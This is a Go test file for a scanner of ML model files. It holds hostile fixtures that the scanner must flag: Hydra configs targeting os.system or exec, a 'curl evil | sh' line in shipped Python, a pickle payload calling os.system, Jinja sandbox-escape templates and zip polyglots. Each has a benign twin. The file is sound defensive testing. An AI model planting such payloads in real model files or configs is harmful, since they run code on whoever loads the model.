package modelscan

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// safetensorsWith is a safetensors file with one tensor and metadata.
func safetensorsWith(meta string) []byte {
	h := []byte(`{"__metadata__":{"config":` + meta + `},"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}`)
	var b bytes.Buffer
	binary.Write(&b, binary.LittleEndian, uint64(len(h)))
	b.Write(h)
	b.Write([]byte{0, 0, 0, 0})
	return b.Bytes()
}

func nemoArchive(config string) []byte {
	var b bytes.Buffer
	gz := gzip.NewWriter(&b)
	tw := tar.NewWriter(gz)
	for name, body := range map[string]string{"./model_config.yaml": config, "./model_weights.ckpt": "\x80\x02}q\x00."} {
		tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg})
		tw.Write([]byte(body))
	}
	tw.Close()
	gz.Close()
	return b.Bytes()
}

// TestConfigStage: what configs, shipped Python and templates make a
// loader instantiate or run, each with a benign twin that stays clean.
func TestConfigStage(t *testing.T) {
	checkScans(t, []scanCase{
		{"model_config.yaml", []byte("model:\n  encoder:\n    _target_: os.system\n    _args_: [\"id\"]\n"), Critical, "config.instantiation"},
		{"benign_config.yaml", []byte("model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n  optim:\n    _target_: torch.optim.Adam\n"), "none", ""},
		{"unknown_config.yaml", []byte("trainer:\n  _target_: somepkg.helpers.build\n"), Medium, "config.unknown-target"},
		{"hparams.json", []byte(`{"head": {"_target_": "builtins.eval", "_args_": ["1+1"]}}`), Critical, "config.instantiation"},
		{"meta.safetensors", safetensorsWith(`"{\"_target_\": \"subprocess.run\"}"`), Critical, "config.instantiation"},
		{"benign_meta.safetensors", safetensorsWith(`"{\"format\": \"pt\"}"`), "none", ""},
		{"model.nemo", nemoArchive("model:\n  _target_: posix.system\n"), Critical, "config.instantiation"},
		{"benign.nemo", nemoArchive("model:\n  _target_: nemo.collections.nlp.models.TokenClassificationModel\n"), "none", ""},
		{"config.json", []byte(`{"architectures": ["X"], "auto_map": {"AutoModel": "evil/repo--modeling_x.XModel"}}`), High, "config.remote-code"},
		{"shipped_config.json", []byte(`{"auto_map": {"AutoModel": "modeling_x.XModel"}}`), Medium, "config.shipped-code"},
		{"modeling_x.py", []byte("import os\nclass X:\n    def __init__(self):\n        os.system('curl evil | sh')\n"), Critical, "python.dangerous-call"},
		{"modeling_ok.py", []byte("import os\nimport torch\nclass X(torch.nn.Module):\n    def load(self, d):\n        return os.path.join(d, 'w.bin')\n"), "none", ""},
		{"computed.yaml", []byte("vars:\n  t: os.system\nmodel:\n  _target_: ${vars.t}\n"), High, "config.computed-target"},
		{"interp_ok.yaml", []byte("model:\n  _target_: torch.nn.Linear\n  in_features: ${dims.in}\n"), "none", ""},
		{"locate.yaml", []byte("act:\n  _target_: hydra.utils.get_method\n  path: builtins.exec\n"), Critical, "config.instantiation"},
		{"locate_ok.yaml", []byte("act:\n  _target_: hydra.utils.get_class\n  path: torch.nn.ReLU\n"), "none", ""},
		{"locate_none.yaml", []byte("act:\n  _target_: hydra.utils.get_method\n  _args_: [\"${x}\"]\n"), High, "config.instantiation"},
		{"chat_template.jinja", []byte("{{ ''.__class__.__mro__[1].__subclasses__() }}"), Critical, "template.injection"},
		{"attr_template.jinja", []byte(`{{ ''|attr('_'*2+'class'+'_'*2)|attr('_'*2+'base'+'_'*2) }}`), Critical, "template.injection"},
		{"escaped_template.jinja", []byte(`{{ lipsum|attr("\x5f\x5fglobals\x5f\x5f") }}`), Critical, "template.injection"},
		{"llama_chat_template.jinja", []byte(`{{- bos_token }}{%- set date_string = strftime_now("%d %b %Y") %}{%- set ns = namespace(system="") %}` +
			`{%- for message in messages | selectattr("role", "equalto", "system") %}{%- set ns.system = message['content'] %}{%- endfor %}` +
			`{%- if tools is not none %}{{- tools | tojson(indent=4) }}{%- endif %}{%- for message in messages %}{{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n' + message['content'] | trim + '<|eot_id|>' }}{%- endfor %}` +
			`{%- if add_generation_prompt %}{{- '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{%- endif %}{%- if false %}{{ raise_exception('x') }}{%- endif %}`), "none", ""},
		{"benign_chat_template.jinja", []byte("{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"), "none", ""},
	})
}

// TestTensorPolyglots: a tensor file with a zip behind it is read as
// both: the archive's pickle is found, and the file is reported.
func TestTensorPolyglots(t *testing.T) {
	evil := fixturesZip("archive/data.pkl", []byte("\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."))
	npy := append([]byte("\x93NUMPY\x01\x00v\x00{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }"+string(bytes.Repeat([]byte(" "), 53))+"\n"), 0, 0, 0, 0)
	dir := t.TempDir()
	s := newTestScanner(t)
	var gzb bytes.Buffer
	zw := gzip.NewWriter(&gzb)
	zw.Write([]byte("weights"))
	zw.Close()
	for name, data := range map[string][]byte{"w.npy": append(bytes.Clone(npy), evil...), "w.safetensors": append(safetensorsWith(`"x"`), evil...),
		"w.gz": append(gzb.Bytes(), evil...), "m.onnx": append(onnxModel("Relu"), evil...)} {
		p := filepath.Join(dir, name)
		os.WriteFile(p, data, 0o644)
		f := s.ScanFile(context.Background(), p)
		var rules []string
		for _, x := range f.Findings {
			rules = append(rules, x.Rule)
		}
		if highest(f) != Critical || !slices.Contains(rules, "file.polyglot") {
			t.Errorf("%s: %s %v [%s], want the polyglot and the pickle's os.system", name, highest(f), rules, f.Format)
		}
	}
	// The same tensors alone are clean.
	p := filepath.Join(dir, "clean.npy")
	os.WriteFile(p, npy, 0o644)
	if f := s.ScanFile(context.Background(), p); len(f.Findings) != 0 {
		t.Errorf("clean npy: %+v", f.Findings)
	}
}

// tarOf is a tar of the named members.
func tarOf(members map[string][]byte) []byte {
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	for name, body := range members {
		tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg})
		tw.Write(body)
	}
	tw.Close()
	return b.Bytes()
}

// TestTarZipPolyglot: a zip laid after a tar is a polyglot and both are
// read; a zip inside a tar is a member, not a polyglot; a TorchServe
// archive's handler is read as shipped code.
func TestTarZipPolyglot(t *testing.T) {
	evil := fixturesZip("archive/data.pkl", []byte("\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."))
	benign := fixturesZip("archive/data.pkl", []byte("\x80\x02}q\x00."))
	checkScans(t, []scanCase{
		{"appended.tar", append(tarOf(map[string][]byte{"pickle": []byte("\x80\x02N.")}), evil...), Critical, "file.polyglot"},
		{"nested.tar", tarOf(map[string][]byte{"model.pt": benign}), "none", ""},
		{"model.mar", zipOf(map[string][]byte{"MAR-INF/MANIFEST.json": []byte(`{"model": {"handler": "handler.py"}}`),
			"handler.py": []byte("import subprocess\ndef handle(data, ctx):\n    return subprocess.check_output(data)\n")}), Critical, "python.dangerous-call"},
	})
}

func zipOf(members map[string][]byte) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for name, body := range members {
		f, _ := w.Create(name)
		f.Write(body)
	}
	w.Close()
	return b.Bytes()
}

// TestLongText: a text longer than one read window is read to its end
// (a target 20 MiB in, a config.json too big to judge is an error).
func TestLongText(t *testing.T) {
	filler := bytes.Repeat([]byte("{\"vocab\": \"abc\"}\n"), (20<<20)/17)
	checkScans(t, []scanCase{
		{"long/config.yaml", append(append([]byte(nil), filler...), "model:\n  _target_: subprocess.run\n"...), Critical, "config.instantiation"},
		{"long/tokenizer.json", filler, "none", ""},
	})
	dir := t.TempDir()
	p := filepath.Join(dir, "big.keras")
	os.WriteFile(p, kerasArchive(`{"module": "keras", "class_name": "Sequential", "config": {"pad": "`+strings.Repeat("x", maxText)+`"}}`), 0o644)
	if f := newTestScanner(t).ScanFile(context.Background(), p); f.Error == "" {
		t.Errorf("a config.json over %d bytes: no error, findings %v", maxText, f.Findings)
	}
}
